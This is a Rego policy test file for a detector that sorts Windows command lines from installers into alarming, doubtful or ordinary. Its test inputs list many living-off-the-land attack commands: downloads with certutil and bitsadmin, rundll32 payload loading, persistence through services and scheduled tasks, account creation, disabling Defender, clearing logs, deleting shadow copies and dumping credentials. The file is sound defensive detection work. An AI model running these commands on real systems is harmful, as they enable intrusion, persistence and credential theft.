package lib.behaviour_test

import data.lib.behaviour
import data.lib.fixtures_test as fixtures

alarming(command_line) := told if {
	told := behaviour.alarms with input as below(command_line)
}

doubtful(command_line) := told if {
	told := behaviour.doubts with input as below(command_line)
}

# The tool is the first word; its path does not matter here.
below(command_line) := fixtures.child(concat("\\", ["c:\\windows\\system32", split(command_line, " ")[0]]), command_line)

test_transfer_is_alarming if {
	every command_line, what in {
		"certutil.exe -urlcache -f https://files.orrery.example/s s": "fetches or decodes a file with certutil",
		"certutil.exe /decode a.txt a.exe": "fetches or decodes a file with certutil",
		"certutil.exe \"-decode\" a.txt a.exe": "fetches or decodes a file with certutil",
		"bitsadmin.exe /transfer j https://files.orrery.example/s c:\\s": "transfers a file with bitsadmin",
		"curl.exe -o s files.orrery.example/s": "transfers a file with curl or wget",
		"wget.exe files.orrery.example/s": "transfers a file with curl or wget",
		"certreq.exe -post -config https://files.orrery.example x": "sends or fetches with certreq",
		"certutil.exe -f https://files.orrery.example/s s": "fetches or decodes a file with certutil",
		"mpcmdrun.exe -downloadfile -url files.orrery.example/s -path s": "fetches a file with Windows Defender",
		"mpcmdrun.exe https://files.orrery.example/s": "fetches a file with Windows Defender",
		"esentutl.exe /y a.exe /d b.exe": "copies a file with esentutl",
		"finger.exe x@files.orrery.example": "fetches text from another host",
		"scp.exe files.orrery.example:s s": "transfers a file with ssh",
		"sftp.exe files.orrery.example": "transfers a file with ssh",
		"ftp.exe -s:x.txt files.orrery.example": "runs a script of ftp commands",
		"ftp.exe /s:x.txt files.orrery.example": "runs a script of ftp commands",
	} {
		alarming(command_line) == {what}
	}
}

test_execution_in_anothers_name_is_alarming if {
	every command_line, what in {
		"msbuild.exe x.proj": "runs code through a system tool",
		"forfiles.exe /p c:\\windows /c calc": "runs code through a system tool",
		"rundll32.exe c:\\users\\public\\x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe c:\\users\\alice\\x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe c:/users/alice/x.dll,run": "loads a file from a place where payloads run from",
		"regsvr32.exe /s %temp%\\x.dll": "loads a file from a place where payloads run from",
		"installutil.exe c:\\programdata\\orrery\\x.dll": "loads a file from a place where payloads run from",
		"rundll32.exe \\\\files.orrery.example@ssl\\x\\x.dll,run": "loads a remote file",
		"rundll32.exe c:/users\\alice/x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe c:\\windows\\temp.\\x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe c:\\programdata \\x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe c:\\windows\\\\installer\\.\\x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe c:\\progra~3\\x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe c:\\windows\\tracing\\x.dll,run": "loads a file from a place where payloads run from",
		"rundll32.exe \\\\?\\unc\\files\\s\\x.dll,run": "loads a remote file",
		"rundll32.exe \"c:\\program files\\orrery\\readme.txt:x.dll\",run": "loads an alternate stream of a file",
		"rundll32.exe url,openurl x": "runs a command through an export of a system library",
		"rundll32.exe shell32,#44 calc": "runs a command through an export of a system library",
		"conhost.exe --headless calc": "runs code through a system tool",
		"wmic.exe path win32_process call create calc": "starts a process through WMI",
		"wmic.exe product where name='x' call install": "acts on another host, a script or a package through WMI",
		"mofcomp.exe c:\\windows\\temp\\x.mof": "compiles WMI classes from a place where payloads run from",
		"mofcomp.exe \\\\files\\s\\x.mof": "compiles WMI classes from a place where payloads run from",
		"explorer.exe \"c:\\users\\public\\a b.exe\"": "starts a program through the desktop",
		"explorer.exe \\\\files\\s\\x.exe": "starts a program through the desktop",
		"rundll32.exe javascript:x": "runs a command through an export of a system library",
		"rundll32.exe c:\\windows\\system32\\comsvcs.dll,x 624 d full": "runs a command through an export of a system library",
		"regsvr32.exe /i:x scrobj.dll": "registers a script as a component",
		"odbcconf.exe /a {regsvr x.dll}": "runs a command through odbcconf",
		"wmic.exe process call create calc": "starts a process through WMI",
		"wmic.exe /node:ws02 os get": "acts on another host, a script or a package through WMI",
	} {
		alarming(command_line) == {what}
	}
}

test_every_tool_that_runs_code_in_anothers_name_is_known if {
	every name in [
		"addinutil", "certoc", "cmstp", "desktopimgdownldr", "diskshadow", "extexport", "ieexec", "infdefaultinstall", "mavinject",
		"mavinject32", "msxsl", "pcalua", "presentationhost", "rasautou", "register-cimprovider", "runscripthelper",
		"scriptrunner", "syncappvpublishingserver", "tttracer", "xwizard",
	] {
		alarming(concat("", [name, ".exe x"])) == {"runs code through a system tool"}
	}
}

test_every_tool_that_loads_a_file_is_held_to_it if {
	every name in ["installutil", "odbcconf", "regasm", "regsvcs", "regsvr32", "rundll32"] {
		alarming(concat("", [name, ".exe c:\\users\\public\\x.dll"])) == {"loads a file from a place where payloads run from"}
	}
	every name in ["installutil", "regasm", "regsvcs", "regsvr32"] {
		doubtful(concat("", [name, ".exe /u c:\\progra~1\\orrery\\x.dll"])) == {"unregisters a component"}
	}
}

test_persistence_is_alarming if {
	every command_line, what in {
		"schtasks.exe /create /tn orrery /tr x": "creates a scheduled task",
		"sctasks.exe -create -tn orrery -tr x": "creates a scheduled task",
		"at.exe 10:00 x": "creates a scheduled task",
		"sc.exe create orrery start= auto": "creates a service or changes what it runs",
		"sc.exe config orrery binpath= x": "creates a service or changes what it runs",
		"sc.exe failure orrery command= x": "creates a service or changes what it runs",
		"reg.exe add hklm\\software\\microsoft\\windows\\currentversion\\run /v o /d x": "writes a registry key that starts programs or weakens the system",
		"reg.exe add hklm\\software\\orrery /v p /d c:\\users\\public\\x.exe": "writes a path where payloads run from into the registry",
		"regedit.exe /s c:\\windows\\temp\\x.reg": "writes a path where payloads run from into the registry",
		"reg.exe save hklm\\sam s": "copies the accounts database",
		"certutil.exe -addstore root o.cer": "adds a certificate authority",
		"certmgr.exe -add o.cer -s -r localmachine root": "adds a certificate authority",
		"reg.exe add hklm\\software\\microsoft\\systemcertificates\\root\\certificates\\ab /v blob /d 0": "writes a registry key that starts programs or weakens the system",
	} {
		alarming(command_line) == {what}
	}
}

test_accounts_and_network_are_alarming if {
	every command_line, what in {
		"net.exe user helper p4ss /add": "adds or enables an account or a group member",
		"net1.exe localgroup administrators helper /add": "adds or enables an account or a group member",
		"net.exe user guest /active:yes": "adds or enables an account or a group member",
		"netsh.exe interface portproxy add v4tov4 x": "redirects traffic or loads a helper with netsh",
		"netsh.exe int portp add v4tov4 x": "redirects traffic or loads a helper with netsh",
		"netsh.exe add helper x.dll": "redirects traffic or loads a helper with netsh",
		"netsh.exe advfirewall set allprofiles state off": "switches the firewall off or records traffic",
	} {
		alarming(command_line) == {what}
	}
}

test_tampering_is_alarming if {
	every command_line, what in {
		"net.exe stop windefend": "stops or removes what watches over the host",
		"sc.exe config sense start= disabled": "stops or removes what watches over the host",
		"taskkill.exe /f /im sysmon64.exe": "stops or removes what watches over the host",
		"net.exe stop \"windows defender antivirus service\"": "stops or removes what watches over the host",
		"fltmc.exe unload wdfilter": "stops or removes what watches over the host",
		"reg.exe delete hklm\\software\\microsoft\\amsi\\providers\\x /f": "stops or removes what watches over the host",
		"logman.exe stop eventlog-system -ets": "clears or switches off logs",
		"dism.exe /online /disable-feature /featurename:windows-defender": "weakens Windows Defender",
		"reagentc.exe /disable": "changes how the host starts or recovers",
		"ntdsutil.exe": "copies the accounts database",
		"vssadmin.exe delete shadows /all": "deletes what the host could be restored from",
		"wbadmin.exe delete catalog": "deletes what the host could be restored from",
		"wmic.exe shadowcopy delete": "deletes what the host could be restored from",
		"bcdedit.exe /set {default} recoveryenabled no": "changes how the host starts or recovers",
		"wevtutil.exe cl security": "clears or switches off logs",
		"auditpol.exe /clear /y": "clears or switches off logs",
		"fsutil.exe usn deletejournal /d c:": "clears or switches off logs",
		"mpcmdrun.exe -removedefinitions -all": "weakens Windows Defender",
	} {
		alarming(command_line) == {what}
	}
}

test_what_an_honest_package_does_now_and_then_is_doubtful if {
	every command_line, what in {
		"ftp.exe files.orrery.example": "transfers a file with ftp",
		"ssh.exe files.orrery.example": "connects to another host",
		"net.exe use x: \\\\files\\x": "connects to a share",
		"mofcomp.exe \"c:\\program files\\orrery\\o.mof\"": "compiles WMI classes",
		"explorer.exe https://orrery.example/thanks": "opens something through the desktop",
		"explorer.exe c:\\users\\alice\\orrery": "opens something through the desktop",
		"explorer.exe \"c:\\program files\\orrery\\o.exe\"": "opens something through the desktop",
		"regsvr32.exe /u /s c:\\progra~1\\orrery\\x.dll": "unregisters a component",
		"wmic.exe path orrery call x": "calls a method through WMI",
		"schtasks.exe /change /tn orrery /enable": "changes or runs a scheduled task",
		"reg.exe import o.reg": "imports a registry file",
		"regedit.exe /s o.reg": "imports a registry file",
		"certutil.exe -addstore my o.cer": "adds a certificate",
		"netsh.exe advfirewall firewall add rule name=o": "opens the firewall",
		"net.exe share o=c:\\o": "shares a folder",
		"cmdkey.exe /add:o /user:o": "stores credentials",
	} {
		doubtful(command_line) == {what}
		alarming(command_line) == set()
	}
}

test_ordinary_arguments_are_neither if {
	every command_line in [
		"net.exe start spooler",
		"net.exe start windefend",
		"sc.exe query sense",
		"net.exe stop orrery",
		"sc.exe query orrery",
		"sc.exe delete orrery",
		"schtasks.exe /delete /tn orrery /f",
		"reg.exe query hklm\\software\\orrery",
		"reg.exe add hklm\\software\\orrery /v v /d 1",
		"reg.exe delete hklm\\software\\microsoft\\windows\\currentversion\\rempl\\shell /va /f",
		"regsvr32.exe /s c:\\progra~1\\orrery\\x.dll",
		"taskkill.exe /im orrery.exe",
		"icacls.exe c:\\orrery /grant users:r",
		"certutil.exe -dump o.cer",
		"rundll32.exe c:\\progra~1\\orrery\\x.dll,run",
		"conhost.exe 0xffffffff -forcev1",
		"conhost.exe 0x4",
		"explorer.exe",
		"dism.exe /online /enable-feature /featurename:netfx3",
		"logman.exe stop orrery",
		"certmgr.exe -add o.cer -s my",
		"reg.exe delete hklm\\software\\orrery /f",
	] {
		alarming(command_line) == set()
		doubtful(command_line) == set()
	}
}

test_file_on_a_share_is_remote if {
	every command_line in [
		"rundll32.exe \\\\files.example\\s\\x.dll,run",
		"rundll32.exe \"\\\\files.example\\s\\msi1.tmp\",zzzzinvokemanagedcustomactionoutofproc sfxca_1 2 a!b.c",
		"rundll32.exe //files.example/s/x.dll,run",
	] {
		behaviour.alarms == {"loads a remote file"} with input as fixtures.child("c:\\windows\\system32\\rundll32.exe", command_line)
	}
	behaviour.alarms["loads a remote file"] with input as fixtures.child("c:\\windows\\system32\\regsvr32.exe", "regsvr32 /s /i:\\\\files.example\\s\\x.sct x.dll")
	behaviour.alarms == set() with input as fixtures.child("c:\\windows\\system32\\rundll32.exe", "rundll32.exe \\\\?\\c:\\program files\\o\\x.dll,run")
}

test_managed_custom_action_loads_its_own_extracted_file if {
	command_line := "rundll32.exe \"c:\\windows\\installer\\msi1.tmp\",zzzzinvokemanagedcustomactionoutofproc sfxca_1 2 a!b.c"
	document := object.union(below(command_line), {"process": {"role": "managed_custom_action"}})
	told := behaviour.alarms with input as document
	told == set()
	alarming(command_line) == {"loads a file from a place where payloads run from"}
}

test_file_of_the_working_folder_is_judged_by_where_that_is if {
	every line in ["regsvr32.exe /s x.dll", "rundll32.exe x.dll,run", "rundll32.exe .\\x,run", "rundll32.exe user32.txt,run", "rundll32.exe user32.dll\\..\\x,run"] {
		"loads a file from its working folder, where payloads run from" in behaviour.alarms with input as within("c:\\users\\public", line)
		behaviour.alarms == {"loads a file from its working folder, where payloads run from"} with input as within("c:\\users\\public\\", line)
		not "loads a file from its working folder, where payloads run from" in behaviour.alarms with input as within("c:\\windows\\system32\\", line)
	}
	every line in ["rundll32.exe printui.dll,printuientry", "rundll32.exe shell32,control_rundll", "rundll32.exe \\orrery\\x.dll,run x", "odbcconf.exe {x}", "rundll32.exe c:\\progra~1\\orrery\\x.dll,run x", "regsvr32.exe /s"] {
		behaviour.alarms == set() with input as within("c:\\users\\public", line)
	}
}

test_managed_custom_action_names_no_file_of_its_working_folder if {
	behaviour.alarms == set() with input as object.union(within("c:\\windows\\installer\\", "rundll32.exe x.tmp,zzzz y"), {"process": {"role": "managed_custom_action"}})
}

within(folder, line) := object.union(below(line), {"process": {"current_directory": folder}})

test_shell_that_sets_up_what_starts_again_lasts if {
	every line in ["powershell register-scheduledtask x", "powershell new-service x", "cmd /c schtasks /create /tn x", "cmd /c cd \\&sc create x"] {
		behaviour.lasts with input as fixtures.child("c:\\windows\\system32\\cmd.exe", line)
	}
	every line in ["cmd /c schtasks /change /tn x", "cmd /c sc query x", "cmd /c create"] {
		not behaviour.lasts with input as fixtures.child("c:\\windows\\system32\\cmd.exe", line)
	}
	not behaviour.lasts with input as fixtures.child("c:\\orrery\\x.exe", "x.exe new-service")
}

test_shell_that_adds_an_authority_trusts_it if {
	every line in ["powershell import-certificate o.cer -certstorelocation cert:\\localmachine\\root", "powershell [x]::x509store('root','localmachine')"] {
		behaviour.trusts with input as fixtures.child("c:\\windows\\system32\\cmd.exe", line)
	}
	not behaviour.trusts with input as fixtures.child("c:\\windows\\system32\\cmd.exe", "powershell import-certificate o.cer -certstorelocation cert:\\localmachine\\my")
	not behaviour.trusts with input as fixtures.child("c:\\orrery\\x.exe", "x import-certificate cert:\\localmachine\\root")
}

test_what_the_same_tools_do_every_day_is_not_alarming if {
	every command_line in [
		"net.exe user",
		"net.exe view corp /add",
		"netsh.exe interface portproxy show all",
		"netsh.exe advfirewall show allprofiles",
		"wmic.exe process list brief",
		"wmic.exe os create x",
		"wmic.exe product get name",
		"esentutl.exe /g orrery.edb",
		"bitsadmin.exe /list",
		"certreq.exe -new x.inf x.req",
		"reg.exe save hklm\\software\\orrery o.hiv",
		"certutil.exe -store root",
		"net.exe start windefend",
		"sc.exe query windefend",
		"vssadmin.exe list shadows",
		"wbadmin.exe get versions",
		"bcdedit.exe /enum",
		"wevtutil.exe el",
		"auditpol.exe /get /category:*",
		"fsutil.exe usn queryjournal c:",
		"logman.exe query eventlog-application",
		"fltmc.exe instances",
		"reg.exe query hklm\\software\\microsoft\\amsi\\providers",
		"dism.exe /online /get-features windows-defender",
		"dism.exe /online /disable-feature /featurename:telnetclient",
		"reagentc.exe /info",
	] {
		alarming(command_line) == set()
	}
}

test_what_asks_for_nothing_is_not_doubtful if {
	every command_line in [
		"netsh.exe advfirewall show allprofiles",
		"netsh.exe interface add address x",
		"netsh.exe advfirewall firewall show rule name=all",
		"cmdkey.exe /list",
		"wmic.exe os get caption",
		"installutil.exe orrery.dll",
		"regasm.exe orrery.dll",
		"regsvcs.exe orrery.dll",
	] {
		doubtful(command_line) == set()
	}
}

test_only_a_shell_disarms_lasts_or_trusts_by_words_alone if {
	every command_line in ["x.exe add-mppreference -exclusionpath c:\\", "x.exe stop windefend", "x.exe create schtasks", "x.exe new-service x"] {
		not behaviour.disarms with input as fixtures.child("c:\\orrery\\x.exe", command_line)
		not behaviour.lasts with input as fixtures.child("c:\\orrery\\x.exe", command_line)
	}
	not behaviour.disarms with input as fixtures.child("c:\\windows\\system32\\cmd.exe", "cmd /c net stop spooler")
	not behaviour.trusts with input as fixtures.child("c:\\windows\\system32\\cmd.exe", "cmd /c dir cert:\\localmachine\\root")
}
